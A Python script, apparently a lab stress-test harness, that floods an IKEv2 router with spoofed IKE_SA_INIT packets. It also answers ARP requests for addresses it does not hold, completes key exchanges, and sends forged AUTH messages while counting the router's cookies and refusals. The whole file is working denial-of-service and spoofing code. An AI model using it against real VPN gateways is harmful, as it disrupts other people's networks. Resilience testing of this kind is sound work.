#!/usr/bin/env python3
"""Somebody at the wire who makes up IKE messages to a router, in the names of others.

strangers.py DEVICE MAC RATE SECONDS WHO     from DEVICE to the router with that MAC, RATE a second

WHO is whose name it is in:
  peer      IKE_SA_INIT of 16.1.1.1, from any port
  nobody    IKE_SA_INIT of addresses that no gateway has
  one, many handshakes of 16.1.1.100, or 16.1.1.100 to 199, whole but for the proof of the key
"""
import hashlib
import hmac
import os
import random
import select
import socket
import struct
import sys
import time

ROUTER, PEER = "16.1.1.2", "16.1.1.1"
INIT, AUTH = 34, 35
NONCE, KE, COOKIE = 40, 34, 16390


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def payloads(kind, octets):
    while kind and len(octets) >= 4:
        following, _, length = struct.unpack("!BBH", octets[:4])
        yield kind, octets[4:length]
        kind, octets = following, octets[max(length, 4):]


def offer():  # aes-256-gcm, hmac-sha256, group31
    transforms = (struct.pack("!BBHBBHHH", 3, 0, 12, 1, 0, 20, 0x800E, 256) +
                  struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 5) + struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 31))
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms


def ike(spi_i, spi_r, first, exchange, message, body):
    return spi_i + spi_r + struct.pack("!BBBBII", first, 0x20, exchange, 8, message, 28 + len(body)) + body


def init(spi, public, nonce, cookie=b""):
    body = payload(KE, offer()) + payload(NONCE, struct.pack("!HH", 31, 0) + public) + payload(0, nonce)
    if not cookie:
        return ike(spi, bytes(8), 33, INIT, 0, body)
    return ike(spi, bytes(8), 41, INIT, 0, payload(33, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + body)


class Wire:
    def __init__(self, device, mac):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((device, 0))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.own = self.socket.getsockname()[4]
        self.router = bytes.fromhex(mac.replace(":", ""))

    def frame(self, source, port, data):
        udp = struct.pack("!HHHH", port, 500, 8 + len(data), 0) + data
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                           socket.inet_aton(source), socket.inet_aton(ROUTER))
        total = sum(struct.unpack("!10H", head))
        total = (total & 0xFFFF) + (total >> 16)
        head = head[:10] + struct.pack("!H", 0xFFFF & ~(total + (total >> 16))) + head[12:]
        return self.router + self.own + b"\x08\x00" + head + udp

    def send(self, frame):
        try:
            self.socket.send(frame)
        except OSError:
            pass  # the queue is full


def flood(wire, rate, seconds, who):
    def name():
        return PEER if who == "peer" else socket.inet_ntoa(bytes([random.randrange(20, 220)]) + os.urandom(3))
    frames = [wire.frame(name(), random.randrange(1024, 65536), init(os.urandom(8), os.urandom(32), os.urandom(32)))
              for _ in range(20000)]
    start, sent = time.monotonic(), 0
    while (passed := time.monotonic() - start) < seconds:
        due = int(passed * rate)
        if sent >= due:
            time.sleep(0.0005)
        for _ in range(min(due - sent, 500)):
            wire.send(frames[sent % len(frames)])
            sent += 1
    print(f"{sent} IKE_SA_INIT sent in {time.monotonic() - start:.1f} s")


def prf(key, data):
    return hmac.digest(key, data, hashlib.sha256)


def wrong_auth(source, spi_i, spi_r, nonces, secret):
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    seed = prf(nonces, secret)
    stream = block = b""
    for count in range(1, 5):
        block = prf(seed, block + nonces + spi_i + spi_r + bytes([count]))
        stream += block
    key, salt = stream[32:64], stream[64:68]
    inner = payload(39, b"\x01\0\0\0" + socket.inet_aton(source)) + payload(0, b"\x02\0\0\0" + os.urandom(32)) + b"\0"
    size = 4 + 8 + len(inner) + 16
    head = spi_i + spi_r + struct.pack("!BBBBII", 46, 0x20, AUTH, 8, 1, 28 + size) + struct.pack("!BBH", 35, 0, size)
    iv = os.urandom(8)
    return head + iv + AESGCM(key).encrypt(salt + iv, inner, head)


def handshakes(wire, rate, seconds, who):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
    private = X25519PrivateKey.generate()
    public = private.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    begun, counts = {}, {"begun": 0, "proofs": 0, "cookies": 0, "refusals": 0}

    def answer(frame):
        kind = frame[12:14]
        if kind == b"\x08\x06" and frame[20:22] == b"\0\1":  # who has one of ours?
            asked = frame[38:42]
            if asked[:3] == bytes([16, 1, 1]) and 100 <= asked[3] < 200:
                wire.send(frame[6:12] + wire.own + b"\x08\x06" + frame[14:20] + b"\0\2" + wire.own + asked + frame[22:32])
            return
        if kind != b"\x08\x00" or frame[23] != 17 or frame[34:36] != b"\x01\xf4" or len(frame) < 70:
            return
        message = frame[42:14 + struct.unpack("!H", frame[16:18])[0]]
        spi_i, spi_r, exchange = message[:8], message[8:16], message[18]
        if spi_i not in begun:
            return
        source, nonce = begun[spi_i]
        if exchange == AUTH:
            counts["refusals"] += 1
            del begun[spi_i]
            return
        parts = dict(payloads(message[16], message[28:]))
        if KE in parts and NONCE in parts:
            secret = private.exchange(X25519PublicKey.from_public_bytes(parts[KE][4:36]))
            counts["proofs"] += 1
            wire.send(wire.frame(source, 500, wrong_auth(source, spi_i, spi_r, nonce + parts[NONCE], secret)))
        elif 41 in parts and parts[41][2:4] == struct.pack("!H", COOKIE):
            counts["cookies"] += 1
            wire.send(wire.frame(source, 500, init(spi_i, public, nonce, parts[41][4:])))

    start = time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        for _ in range(min(int(passed * rate) - counts["begun"], 20)):
            source = "16.1.1." + str(100 if who == "one" else 100 + counts["begun"] % 100)
            spi, nonce = os.urandom(8), os.urandom(32)
            begun[spi] = source, nonce
            wire.send(wire.frame(source, 500, init(spi, public, nonce)))
            counts["begun"] += 1
        for _ in range(64):
            if not select.select([wire.socket], [], [], 0.0005)[0]:
                break
            frame, address = wire.socket.recvfrom(2048)
            if address[2] != socket.PACKET_OUTGOING:
                answer(frame)
    print(", ".join(f"{count} {what}" for what, count in counts.items()), f"in {time.monotonic() - start:.1f} s")


if len(sys.argv) != 6 or sys.argv[5] not in ("peer", "nobody", "one", "many"):
    sys.exit(__doc__)
work = flood if sys.argv[5] in ("peer", "nobody") else handshakes
work(Wire(sys.argv[1], sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
